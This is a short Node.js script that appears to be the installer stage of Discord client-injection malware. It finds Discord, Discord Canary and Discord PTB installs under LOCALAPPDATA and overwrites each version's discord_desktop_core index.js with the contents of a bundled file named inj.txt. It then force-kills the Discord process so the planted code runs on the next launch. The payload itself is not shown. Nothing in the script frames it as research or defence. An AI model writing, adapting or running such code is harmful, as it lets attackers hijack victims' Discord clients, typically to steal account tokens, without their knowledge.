const fs = require('fs'), path = require('path'), cp = require('child_process');
const base = process.env.LOCALAPPDATA || '';
for (const app of ['Discord', 'DiscordCanary', 'DiscordPTB']) {
  const root = path.join(base, app);
  if (!fs.existsSync(root)) continue;
  for (const v of fs.readdirSync(root).filter((x) => x.startsWith('app-'))) {
    const core = path.join(root, v, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
    if (fs.existsSync(core)) { fs.writeFileSync(core, fs.readFileSync(path.join(__dirname, 'inj.txt'))); cp.exec('taskkill /F /IM ' + app + '.exe'); }
  }
}
